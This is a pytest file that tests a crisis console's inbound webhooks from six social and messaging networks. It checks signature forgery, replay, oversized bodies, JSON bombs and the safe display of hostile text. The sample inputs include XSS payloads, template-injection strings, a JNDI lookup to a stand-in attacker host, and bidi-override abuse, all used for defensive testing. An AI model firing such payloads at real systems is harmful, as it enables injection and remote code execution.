"""Every way in by webhook against everything hostile: refused and counted, or stored once and shown harmless.

Each network has its own proof and its own shape; what must come of it is the same for all.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from sqlalchemy import select
from twilio.request_validator import RequestValidator
from werkzeug.test import TestResponse

from crisis.channels.linkedin import adapter as linkedin
from crisis.channels.meta import facebook, instagram, threads
from crisis.channels.twilio import whatsapp
from crisis.console import create_app
from crisis.models import InboundRow, ListeningCount
from crisis.runtime import match_settings
from crisis.settings import AccountSettings, SecretRef
from crisis.states import Role
from crisis.triage.reading import Reading
from tests.broadcasts.scene import PUBLIC_URL, TOKEN, a_scene
from tests.channels.graph_scene import hook
from tests.console.scene import Night

ME = "77"
COMMENT = "urn:li:comment:(urn:li:activity:7094637247890620418,7094977717598625792)"
QUOTE = "\n".join(f"{'>' * depth} Er det trygt?" for depth in range(1, 200))
TEXTS = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)> Er det trygt?",
    "template": "{{ 7 * 7 }} {% for a in [] %} ${jndi:ldap://evil.example/a} Er det trygt?",
    "right to left": "\u202eEr det trygt?\u202c \u2066\u2067" + "\u202e" * 500,
    "emoji": "😀" * 4_000,
    "quote of itself": QUOTE,
    "letters on letters": "E" + "\u0301" * 5_000 + "r det trygt?",
    "no database": "Er det\0 trygt? \ud83d",
}
NAME = '"><script>alert(3)</script>\u202e'


def sent(text: str, name: str) -> dict[str, bytes | dict[str, str]]:
    """The body by which each network would tell us that `name` wrote `text`: JSON, or the fields of a form."""
    comment = {"item": "comment", "verb": "add", "comment_id": "77_9_5", "post_id": "77_9", "message": text}
    comment |= {"from": {"id": "4711", "name": name}, "created_time": 1_763_000_000}
    picture = {"id": "71", "text": text, "from": {"id": "5", "username": name}, "media": {"id": "900"}}
    thread = {"id": "71", "username": name, "text": text, "timestamp": "2026-11-22T03:12:00+0000"}
    thread |= {"replied_to": {"id": "900"}, "root_post": {"id": "900", "owner_id": ME}}
    notice = {"notificationId": 1, "organizationalEntity": "urn:li:organization:77", "action": "COMMENT"}
    notice |= {"lastModifiedAt": 1691574506310, "generatedActivity": COMMENT}
    notice |= {"decoratedGeneratedActivity": {"comment": {"owner": name, "text": text, "entity": COMMENT}}}
    form = {"MessageSid": "SM1", "From": "+4790011223", "Body": text, "ProfileName": name}
    # What is sent along may say it is a picture and be a program: it is never fetched.
    form |= {"NumMedia": "1", "MediaUrl0": "http://127.0.0.1:1/evil.exe", "MediaContentType0": "image/png"}

    def told(topic: str, field: str, value: object) -> bytes:
        changes = [{"field": field, "value": value}]
        return json.dumps({"object": topic, "entry": [{"id": ME, "time": 1, "changes": changes}]}).encode()

    return {
        "facebook": told("page", "feed", comment),
        "instagram": told("instagram", "comments", picture),
        "threads": json.dumps(
            {"topic": "moderate", "target_id": ME, "time": 1, "values": {"field": "replies", "value": thread}}
        ).encode(),
        "linkedin": json.dumps({"type": "x", "notifications": [notice]}).encode(),
        "sms": form,
        "whatsapp": {**form, "From": f"whatsapp:{form['From']}"},
    }


NETWORKS = tuple(sent("", ""))
OF_TWILIO = ("sms", "whatsapp")


@dataclass
class Ways:
    """The console with an account of each network that calls us."""

    night: Night

    def post(self, network: str, body: bytes | dict[str, str], *, forged: bool = False) -> TestResponse:
        """Signed as that network signs, or by somebody who guesses the secret."""
        path = f"/hooks/{network}-{'live' if network == 'sms' else 'ous'}/inbound"
        if network in OF_TWILIO:
            if isinstance(body, bytes):
                return self._raw(path, body, {"X-Twilio-Signature": self._twilio(path, {}, forged)}, "text/plain")
            raw = urlencode(body, errors="surrogatepass").encode()
            read = {
                name: value.encode("utf-8", "surrogatepass").decode("utf-8", "replace") for name, value in body.items()
            }
            headers = {"X-Twilio-Signature": self._twilio(path, read, forged)}
            return self._raw(path, raw, headers, "application/x-www-form-urlencoded")
        assert isinstance(body, bytes)
        if network == "linkedin":
            secret = b"guess" if forged else b"meta-app-secret"
            proof = hmac.new(secret, b"hmacsha256=" + body, hashlib.sha256).hexdigest()
            return self._raw(path, body, {"X-LI-Signature": proof}, "application/json")
        made = hook(body, "guess") if forged else hook(body)
        return self._raw(path, body, dict(made.headers), "application/json")

    def _raw(self, path: str, body: bytes, headers: dict[str, str], kind: str) -> TestResponse:
        return self.night.app.test_client().post(path, data=body, headers=headers, content_type=kind)

    @staticmethod
    def _twilio(path: str, form: dict[str, str], forged: bool) -> str:
        return RequestValidator("guess" if forged else TOKEN).compute_signature(PUBLIC_URL + path, form)

    def rows(self) -> list[InboundRow]:
        with self.night.scene.runtime.database.reading() as session:
            found = list(session.scalars(select(InboundRow)))
            session.expunge_all()
            return found

    def counted(self) -> set[str]:
        with self.night.scene.runtime.database.reading() as session:
            return set(session.scalars(select(ListeningCount.what).where(ListeningCount.count > 0)))


@pytest.fixture
def ways(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Ways]:
    for name, value in (("A", "meta-access-token-1"), ("S", "meta-app-secret"), ("V", "vtoken"), ("T", TOKEN)):
        monkeypatch.setenv(f"HOOKS_{name}", value)
    token, secret, word, twilio = (SecretRef(env=f"HOOKS_{name}") for name in "ASVT")
    meta: dict[str, Any] = {"access_token": token, "app_secret": secret, "verify_token": word}
    template = {"sid": "HX" + "0" * 32, "body": "{{1}} Svar STOPP."}
    options = {
        "facebook": facebook.Options(page_id=ME, **meta),
        "instagram": instagram.Options(user_id=ME, handle="ous", **meta),
        "threads": threads.Options(user_id=ME, handle="ous", **meta),
        "linkedin": linkedin.Options(organization=ME, access_token=token, client_secret=secret),
        "whatsapp": whatsapp.Options(
            account_sid="AC" + "0" * 32, auth_token=twilio, from_number="+15005551100", templates={"nb": template}
        ),
    }
    with a_scene(tmp_path) as scene:
        more = [
            AccountSettings(key=f"{name}-ous", unit="ous", channel=name, mode="live", options=told)
            for name, told in options.items()
        ]
        settings = scene.settings.model_copy(update={"accounts": (*scene.settings.accounts, *more)})
        with scene.runtime.database.writing() as session:
            match_settings(session, settings)
        scene.runtime = replace(scene.runtime, settings=settings)
        scene.user("tuva", Role.TRIAGER)
        yield Ways(Night(scene, create_app(scene.runtime)))


@pytest.mark.parametrize("network", NETWORKS)
@pytest.mark.parametrize("what", TEXTS)
def test_hostile_words_are_stored_once_and_shown_harmless(ways: Ways, network: str, what: str) -> None:
    body = sent(TEXTS[what], NAME)[network]
    for _ in range(2):  # replayed: the same proof of the same words
        assert ways.post(network, body).status_code == 200
    (row,) = ways.rows()
    assert row.text
    assert "\0" not in row.text
    database = ways.night.scene.runtime.database
    while Reading(database, ways.night.scene.runtime.settings).read_some():
        pass
    tuva = ways.night.browser("tuva")
    for page in ("/triage", f"/triage/{row.id}", f"/triage/{row.id}/card", f"/triage/{row.id}/piece"):
        answer = tuva.get(page)
        assert answer.status_code == 200, page
        assert not re.search(r"<script>alert|<img src=x|\b49\b \$", answer.text), page
        for around in re.findall(r"(?s)[^\n]{0,40}Er det trygt\?", answer.text):
            assert "<img" not in around
    assert "<bdi" in tuva.get(f"/triage/{row.id}").text, "what turns the line round does so within its own words"


@pytest.mark.parametrize("network", NETWORKS)
def test_a_hundred_thousand_emoji_are_too_many_or_cut(ways: Ways, network: str) -> None:
    """As letters they fit into what Meta may bundle, and are cut; a form of Twilio's is never so large."""
    body = sent("😀" * 100_000, "x")[network]
    if isinstance(body, bytes):
        body = json.dumps(json.loads(body), ensure_ascii=False).encode()
    answer = ways.post(network, body)
    if answer.status_code == 413:
        assert (ways.rows(), ways.counted()) == ([], {"oversized"})
        return
    assert (answer.status_code, [len(row.text) for row in ways.rows()]) == (200, [20_000])


@pytest.mark.parametrize("network", NETWORKS)
def test_a_forged_one_is_refused_counted_and_leaves_no_trace(ways: Ways, network: str) -> None:
    assert ways.post(network, sent("Løgn", "x")[network], forged=True).status_code == 403
    assert ways.rows() == []
    assert ways.counted() == {"forged"}


@pytest.mark.parametrize("network", NETWORKS)
def test_an_oversized_one_is_refused_and_counted(ways: Ways, network: str) -> None:
    assert ways.post(network, sent("x" * 1_200_000, "x")[network]).status_code == 413
    assert ways.rows() == []
    assert ways.counted() == {"oversized"}


BOMBS: dict[str, Callable[[], bytes]] = {
    "deep": lambda: b'{"object":' + b'{"a":' * 5_000 + b"1" + b"}" * 5_001,
    "deep lists": lambda: b"[" * 30_000 + b"]" * 30_000,
    "deep and cut off": lambda: b"[" * 60_000,
    "a number of many digits": lambda: b'{"notifications": ' + b"9" * 20_000 + b"}",
    "not a number": lambda: b'{"object": "page", "entry": [{"id": "77", "time": Infinity, "changes": [NaN]}]}',
    "not text": lambda: b"\xff\xfe\x00{",
    "odd shapes": lambda: b'{"object": [], "entry": {"a": 1}, "notifications": "x", "values": [], "topic": {}}',
    "nothing": lambda: b"",
}


@pytest.mark.parametrize("network", [name for name in NETWORKS if name not in OF_TWILIO])
@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_with_the_right_proof_harms_nobody(ways: Ways, network: str, bomb: str) -> None:
    """Somebody with the secret, or a network gone mad: answered, nothing stored, and the next one is read."""
    assert ways.post(network, BOMBS[bomb]()).status_code == 200
    assert ways.rows() == []
    assert ways.post(network, sent("Er det trygt?", "kari")[network]).status_code == 200
    assert [row.text for row in ways.rows()] == ["Er det trygt?"]


@pytest.mark.parametrize("network", OF_TWILIO)
def test_a_body_that_is_no_form_is_refused_or_empty(ways: Ways, network: str) -> None:
    assert ways.post(network, b"[" * 30_000).status_code in (200, 403)
    assert ways.rows() == []
